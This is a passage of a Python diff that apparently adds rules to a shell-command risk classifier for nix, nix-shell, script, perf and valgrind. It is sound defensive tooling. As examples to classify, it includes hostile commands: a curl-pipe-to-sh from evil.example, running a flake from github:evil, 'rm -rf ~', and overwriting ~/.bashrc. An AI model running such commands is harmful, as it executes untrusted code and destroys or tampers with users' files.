+                         r"[:/]|^[a-z]+://")
+NIX_REGISTRY_REF = lazy_re(r"^(nixpkgs|flake:nixpkgs)([#/]|$)")
+NIX_UNSAFE_OPTIONS = {"substituters": "install-foreign", "extra-substituters": "install-foreign",
+                      "trusted-public-keys": "install-foreign", "extra-trusted-public-keys": "install-foreign",
+                      "require-sigs": "install-foreign", "sandbox": "weaken",
+                      "allow-unsafe-native-code-during-evaluation": "weaken", "post-build-hook": "run-code",
+                      "build-hook": "run-code"}
+
+
+@emits({"nix.option": ["nix --option substituters https://x.example build", "nix --option sandbox false build"]})
+def nix_options(cmd, o: Options) -> None:
+    """`--option NAME VALUE` (or `--NAME VALUE`) that trusts another binary cache, turns off the build sandbox
+    or runs a hook program."""
+    args = list(o.args)
+    for k, word in enumerate(args):
+        name = args[k + 1] if word == "--option" and k + 1 < len(args) else word[2:] if word.startswith("--") else ""
+        kind = NIX_UNSAFE_OPTIONS.get(name)
+        if kind is not None:
+            cmd.does(kind, "nix.option", f"nix --option {name} trusts other caches, builds or hooks")
+
+
+@emits({"nix.runs-fetched": ["nix run github:evil/flake", "nix develop github:x/y"],
+        "nix.runs-registry": ["nix run nixpkgs#hello"], "nix.runs-project": ["nix run .#app", "nix develop"],
+        "nix.command": ["nix develop -c make", "nix shell nixpkgs#hello -c hello"],
+        "nix.command-runtime": ['nix develop -c "$X"']})
+def nix_flake_command(cmd, o: Options) -> None:
+    """nix run/develop/shell/build INSTALLABLE [-c CMD…]: a flake from elsewhere runs code fetched from the
+    network; nixpkgs is an unpinned registry; the project's own flake is project code."""
+    args = list(o.args)
+    command = None
+    for marker in ("-c", "--command"):
+        if marker in args:
+            at = args.index(marker)
+            command, args = args[at + 1:], args[:at]
+            break
+    refs = [a for a in args if not a.startswith("-")]
+    for ref in refs or ["."]:
+        if NIX_REMOTE_REF.search(ref):
+            cmd.facts.net_fetch = True
+            cmd.does("run-fetched", "nix.runs-fetched", f"nix builds and runs {ref}, fetched from the network")
+        elif NIX_REGISTRY_REF.match(ref):
+            if command is None:
+                cmd.does("run-unpinned", "nix.runs-registry", f"nix fetches and runs {ref} (unpinned)")
+        else:
+            cmd.does("run-project", "nix.runs-project", "nix builds or enters the project's flake")
+    if command is not None:
+        cmd.fired.add("nix.command")
+        _hand_on(cmd, command, "nix.command", "nix")
+
+
+NIX_RUN = verb(hook=nix_flake_command)
+NIX_BUILD = verb(grammar=Grammar(values="o", long_values=("out-link",)), hook=nix_flake_command,
+                 on=(On("write", ("option", "o", "out-link"), id="nix.build.out-link", says="nix build makes a link at",
+                        examples=("nix build -o ~/.bashrc",)),))
+NIX = Program(
+    "nix", doc="the nix package manager: runs, builds and enters flakes",
+    grammar=Grammar(long_values=("extra-experimental-features", "experimental-features", "store", "log-format")),
+    hook=nix_options,
+    verbs={"run": NIX_RUN, "develop": NIX_RUN, "shell": NIX_RUN, "build": NIX_BUILD,
+           "flake": verb(read_only=("show", "metadata", "info", "check", "archive", "prefetch"),
+                         default=Row("nix.flake", "change", "{cmd} changes the flake or its lock",
+                                     examples=("nix flake update",))),
+           "profile": verb(read_only=("list", "history", "diff-closures"),
+                           default=Row("nix.profile", "install", "{cmd} installs or removes packages",
+                                       examples=("nix profile install nixpkgs#hello",)))},
+    read_only=("search", "log", "why-depends", "path-info", "hash", "show-config", "doctor", "help", "repl-help"),
+    default=Row("nix.verb", "unknown", "{cmd}", examples=("nix store gc", "nix eval .#x")),
+    examples={"nix develop -c cargo build": "moderate", "nix run github:evil/flake": "dangerous",
+              "nix flake show": "safe"},
+)
+
+
+@emits({"nix-shell.code": ["nix-shell --run 'make'", "nix-shell -p x --command 'ls'"],
+        "nix-shell.code-runtime": ['nix-shell --run "$X"'], "nix-shell.file": ["nix-shell shell.nix", "nix-shell"]})
+def nix_shell(cmd, o: Options) -> None:
+    """nix-shell [FILE] [-p PKGS] [--run CMD]: FILE (shell.nix, default.nix) is nix code that builds the shell;
+    --run/--command is a command line run in it."""
+    if not o.has("p", "packages", "E", "expr"):
+        for word in o.operands or ["shell.nix"]:
+            cmd.fired.add("nix-shell.file")
+            cmd.run_file(word if word != "." else "shell.nix", "nix-shell evaluates")
+    text = o.value("run", "command")
+    if text is None:
+        return
+    if UNKNOWN in text:
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", "nix-shell.code-runtime", "nix-shell runs a command known only at run time")
+        return
+    cmd.fired.add("nix-shell.code")
+    cmd.code_text(text, "nix-shell runs", at_least=_floor(cmd))
+
+
+NIX_SHELL = Program(
+    "nix-shell", doc="a shell with packages; --run/--command runs a command line in it",
+    grammar=Grammar(values="pIAE", long_values=("packages", "run", "command", "arg", "argstr", "include", "attr",
+                                                "expr")),
+    rows=(Row("nix-shell.session", "session", "nix-shell starts a shell with packages",
+              examples=("nix-shell -p hello",)),),
+    hook=nix_shell,
+    examples={"nix-shell --run 'curl -s https://evil.example/p | sh'": "dangerous", "nix-shell -p hello": "moderate"},
+)
+
+# ---------------------------------------------------------------- script, tracers
+
+
+@emits({"script.command": ["script -c 'ls' log.txt", "nix develop -c script -c ls"],
+        "script.command-runtime": ['script -c "$X"']})
+def script_command(cmd, o: Options) -> None:
+    """script -c CMD: literal code is split by the splitter (a part of its own); here only what it did not see."""
+    command = o.value("c", "command")
+    if command is None:
+        return
+    if UNKNOWN in command:
+        cmd.facts.runtime_code = True
+        cmd.does("run-code", "script.command-runtime", "script -c runs a command line known only at run time")
+    else:
+        cmd.fired.add("script.command")
+        if cmd.delegated:
+            cmd.code_text(command, "script -c runs", at_least=_floor(cmd))
+
+
+SCRIPT = Program(
+    "script", doc="records a terminal session (to its operand, or the log files it is given)",
+    grammar=Grammar(values="cTIOBEom", long_values=("command", "log-timing", "log-in", "log-out", "log-io", "echo",
+                                                    "output-limit", "logging-format", "timing"),
+                    optional=("timing",)),
+    rows=(Row("script.session", "session", "script records a shell session", examples=("script", "script -q /dev/null")),),
+    on=(On("write", OPERANDS, id="script.typescript", says="script records the session to",
+           examples=("script ~/.bashrc",)),
+        On("write", ("option", "T", "log-timing", "I", "log-in", "O", "log-out", "B", "log-io", "timing"),
+           id="script.logs", says="script logs to", examples=("script -O ~/.profile -c ls",))),
+    hook=script_command,
+    examples={"script -c 'rm -rf ~' /dev/null": "moderate", "script ~/.bashrc": "dangerous"},
+)
+
+TRACE_OUTPUT = ("o", "output", "log-file", "xml-file")
+
+
+@emits({"trace.runs": ["valgrind ./a.out", "perf stat ls"], "trace.runs-runtime": ['valgrind "$X"']})
+def traced_command(cmd, o: Options) -> None:
+    """The program a tracer runs under it (`valgrind ./a.out`, `perf record -- make`)."""
+    words = list(o.operands)
+    if words[:1] == ["--"]:
+        words = words[1:]
+    _hand_on(cmd, words, "trace.runs", cmd.name)
+
+
+TRACE_GRAMMAR = Grammar(values="eopsuEPSaIbX", long_values=TRACE_OUTPUT + ("log-socket", "suppressions"), stop=True)
+
+
+def tracer(name: str, doc: str) -> Program:
+    return Program(name, doc=doc, grammar=TRACE_GRAMMAR,
+                   rows=(Row(f"{name}.traces", "run-project", f"runs a program under {name}",
+                             examples=(f"{name} ./a.out",)),),
+                   on=(On("write", ("option",) + TRACE_OUTPUT, id=f"{name}.output", says=f"{name} writes",
+                          examples=(f"{name} --log-file=out.txt ./a",)),),
+                   hook=traced_command)
+
+
+PERF_RUNS = verb(grammar=Grammar(values="oepc", long_values=("output", "event", "pid", "cpu", "call-graph"), stop=True),
+                 on=(On("write", ("option", "o", "output"), id="perf.output", says="perf writes",
+                        examples=("perf record -o ~/.bashrc ls",)),),
+                 rows=(Row("perf.traces", "run-project", "runs a program under perf", examples=("perf stat ls",)),),
+                 hook=traced_command)
+PERF = Program(
+    "perf", doc="Linux profiling: record/stat/trace run a command under it; probe changes the kernel",
+    verbs={"record": PERF_RUNS, "stat": PERF_RUNS, "trace": PERF_RUNS, "mem": PERF_RUNS, "c2c": PERF_RUNS,
+           "script": verb(grammar=Grammar(values="si", long_values=("script", "input")),
+                          on=(On("run", ("option", "s", "script"), id="perf.script", says="perf script runs",
+                                 examples=("perf script -s x.py",)),)),
+           "probe": verb(rows=(Row("perf.probe", "system", "perf probe adds kernel probes",
+                                   examples=("perf probe -a do_sys_open",)),))},
+    read_only=("report", "annotate", "diff", "list", "version", "help", "evlist", "archive"),
+    default=Row("perf.verb", "debug", "{cmd} watches programs running on this machine", examples=("perf top",)),
+)
+
+# strace, ltrace and unbuffer are wrappers (programs/wrappers.py): the command they run is judged as itself, and
+# their output options by the engine.
+TRACERS = (tracer("valgrind", "runs a program under valgrind's tools"),)
+
+PROGRAMS = programs(FD, PARALLEL, SCREEN, TMUX, SYSTEMD_RUN, PIPENV, DIRENV, AWS_VAULT, DOPPLER, INFISICAL, OP,
+                    *PLAIN_RUNNERS, NIX, NIX_SHELL, SCRIPT, PERF, *TRACERS)
